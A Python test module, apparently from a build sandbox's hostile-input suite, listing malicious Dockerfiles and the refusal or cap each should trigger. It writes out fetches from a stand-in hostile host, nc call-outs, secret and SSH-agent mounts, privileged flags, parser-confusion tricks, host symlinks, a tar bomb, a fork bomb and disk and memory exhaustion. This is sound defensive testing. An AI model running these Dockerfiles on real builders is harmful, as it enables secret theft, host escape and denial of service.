"""Dockerfiles that attack whoever builds them: by what they ask for, and by what their commands do."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

from tests.hostile.catalogue import Case, Family, Outcome, Pace, Place
from tests.hostile.making import Make, put

_IMAGE = "native.image_size@docker"
_BASE = "FROM busybox\n"


def _recipe(text: Callable[[Place], str], **files: str | bytes) -> Make:
    def make(place: Place) -> Path:
        folder = place.folder / "lab"
        put(folder, "Dockerfile", text(place))
        put(folder, "program", "#!/bin/sh\n")
        for name, content in files.items():
            put(folder, name.replace("__", "."), content)
        return folder

    return make


def _refused(name: str, tries: str, text: str, code: str, *more: str) -> Case:
    """Return a case that is never built: one finding for each thing that it asks for."""
    outcome = Outcome(facts={_IMAGE: f"not_run {code}"}, findings=("image-refused",) * (1 + len(more)))
    return Case(name, tries, _recipe(lambda place: text), ("recipe check",), outcome)


def _built(
    name: str,
    tries: str,
    text: str | Callable[[Place], str],
    came: str,
    *held_by: str,
    pace: Pace = "quick",
) -> Case:
    """Return a case whose commands are run, without a program that anybody would run afterwards."""
    make = _recipe(text if callable(text) else lambda place: text)
    return Case(name, tries, make, held_by, Outcome(facts={_IMAGE: came}), pace=pace)


def _calls(place: Place) -> str:
    """Ask every ear of the arena, and give up soon; what they hear is seen by who owns them."""
    aims = [place.listeners[name].split(":") for name in ("loopback", "routable")]
    calls = [f"echo hostile | timeout 1 nc {host} {port}" for host, port in (*aims, ("198.51.100.1", "80"))]
    return f'{_BASE}RUN {"; ".join(calls)}; true\nRUN timeout 2 nslookup hostile.invalid; true\nENTRYPOINT ["true"]\n'


def _link(place: Place) -> Path:
    folder = place.folder / "lab"
    put(folder, "main.go", "package main\n")
    (folder / "Dockerfile").symlink_to(place.canary)
    return folder


def _links_in_context(place: Place) -> Path:
    folder = _recipe(lambda _: f"{_BASE}COPY secret folder/canary.txt /\n")(place)
    (folder / "secret").symlink_to(place.canary)
    (folder / "folder").symlink_to(place.canary.parent)
    return folder


def _archive(place: Place) -> Path:
    """Bring an archive that says in 10 kB that it holds a file of 64 GiB."""
    folder = _recipe(lambda _: "FROM scratch\nADD bomb.tar /\n")(place)
    with (place.folder / "big").open("wb") as file:
        file.truncate(64 << 30)
    tar = ["tar", "-S", "--format=posix", "--sparse-version=1.0", "-C", str(place.folder), "-cf"]
    subprocess.run([*tar, str(folder / "bomb.tar"), "big"], check=True)
    (place.folder / "big").unlink()
    return folder


def _large_context(place: Place) -> Path:
    folder = _recipe(lambda _: "FROM scratch\nCOPY . /\n")(place)
    with (folder / "program").open("wb") as file:
        file.truncate(300 << 20)
    return folder


FAMILY = Family(
    "dockerfiles",
    "Dockerfiles: what they ask the builder for, and what their commands do while they are built.",
    (
        _refused(
            "own-frontend",
            "`# syntax=` names an image that would run in place of the builder.",
            f"# syntax=docker.io/hostile/frontend\n{_BASE}",
            "image.syntax",
        ),
        _refused(
            "remote-add",
            "`ADD` fetches from an address, from a git repository, and from an address in a variable.",
            f"{_BASE}ENV U=https://hostile.invalid/x\nADD https://hostile.invalid/x /\n"
            "ADD git@hostile.invalid:x.git /\nADD $U /\n",
            "image.remote-add",
            "image.remote-add",
            "image.remote-add",
        ),
        _refused(
            "secrets",
            "Mounts secrets and the caller's SSH agent.",
            f"{_BASE}RUN --mount=type=secret,id=x cat /run/secrets/x\nRUN --mount=type=ssh ssh-add -l\n",
            "image.mount",
            "image.mount",
        ),
        _refused(
            "insecure",
            "Asks for `--security=insecure`, and for it again with a quote inside.",
            f'{_BASE}RUN --security=insecure id\nRUN --se"curity"=insecure id\n',
            "image.flag",
            "image.flag",
        ),
        _refused(
            "network-of-the-host", "Asks for `--network=host`.", f"{_BASE}RUN --network=host id\n", "image.flag"
        ),
        _refused(
            "foreign-images",
            "Starts from, copies from and mounts images that the lab does not name.",
            "FROM hostile/a\nCOPY --from=hostile/b /x /\nRUN --mount=type=bind,from=hostile/c,target=/x id\n",
            "image.base",
            "image.base",
            "image.base",
        ),
        _refused(
            "onbuild", "Leaves commands for a later stage.", f"{_BASE}ONBUILD RUN id\nFROM busybox\n", "image.onbuild"
        ),
        _refused(
            "here-document",
            "Hides an instruction in a here-document, which one builder reads and the other does not.",
            f"{_BASE}RUN <<END\nADD https://hostile.invalid/x /\nEND\n",
            "dockerfile.heredoc",
        ),
        _refused(
            "two-ends-of-a-line",
            "Ends a line where one reader sees it continued and another does not.",
            f"{_BASE}RUN true \\\\\nADD https://hostile.invalid/x /\n",
            "dockerfile.continuation",
        ),
        Case(
            "unpacked-archive",
            "`ADD` of an archive of 10 kB that unpacks to 64 GiB, by the daemon itself.",
            _archive,
            ("recipe check",),
            Outcome(facts={_IMAGE: "not_run image.archive"}, findings=("image-refused",)),
        ),
        Case(
            "recipe-is-a-link",
            "`Dockerfile` is a link to a file of the host.",
            _link,
            ("intake",),
            Outcome(exit=2),
        ),
        Case(
            "links-in-the-context",
            "Copies through links to a secret of the host and to the folder that holds it.",
            _links_in_context,
            ("intake",),
            Outcome(exit=2),
        ),
        Case(
            "large-context",
            "Has a file of 300 MB that takes no room, for whoever sends it to the builder.",
            _large_context,
            ("intake",),
            Outcome(exit=2),
        ),
        _built(
            "volume-that-is-an-option",
            "Declares a volume whose name would be an option that mounts the host's root.",
            'FROM scratch\nCOPY program /program\nVOLUME ["/x,type=bind,src=/"]\nENTRYPOINT ["/program"]\n',
            "not_run image.volume",
            "recipe check",
        ),
        _built(
            "calls-out",
            "Its commands call the host by loopback and by the bridge, and a foreign one, and ask for a name.",
            _calls,
            "measured",
            "builder's network",
        ),
        _built(
            "never-ends", "A command ignores every signal and sleeps for an hour.",
            f"{_BASE}RUN trap '' TERM INT HUP; while :; do sleep 3600; done\n",
            "failed image.timeout", "build caps",
        ),
        _built(
            "fork-bomb-in-a-build", "A command starts itself again for ever.",
            f"{_BASE}RUN echo 'sh /b & sh /b' > /b; sh /b; sleep 3600\n",
            "failed image.timeout", "build caps",
        ),
        _built(
            "leaves-a-daemon", "A command leaves a process of a session of its own behind.",
            f"{_BASE}RUN setsid sleep 3600 & true\nRUN false\n",
            "failed image.failed", "build caps",
        ),
        _built(
            "flood-of-a-build", "A command prints for ever.",
            f"{_BASE}RUN yes hostile\n",
            "failed run.output-limit", "output cap",
        ),
        _built(
            "memory-hog-in-a-build", "A command takes memory without end.",
            f"{_BASE}RUN tail /dev/zero\n",
            "failed image.failed", "build caps", pace="slow runs",
        ),
        _built(
            "fills-the-disk", "A command writes 5 GiB, in two layers and in a volume, and stays.",
            f"{_BASE}RUN fallocate -l 2G /a\nVOLUME /v\nRUN fallocate -l 3G /v/b; sleep 3600\n",
            "failed run.disk-limit", "disk watch", pace="slow runs",
        ),
        _built(
            "holes", "Leaves a file of 1000 GiB that takes no room, which the daemon writes out byte for byte.",
            f"{_BASE}RUN truncate -s 1000G /hostile\n",
            "failed image.timeout or run.disk-limit", "build caps", "disk watch",
        ),
        _built(
            "other-owner", "Labels what is built as another's, so that nobody counts or removes it.",
            f"{_BASE}LABEL lab-grader.owner=hostile\nRUN false\n",
            "failed image.failed", "build caps",
        ),
    ),
)  # fmt: skip
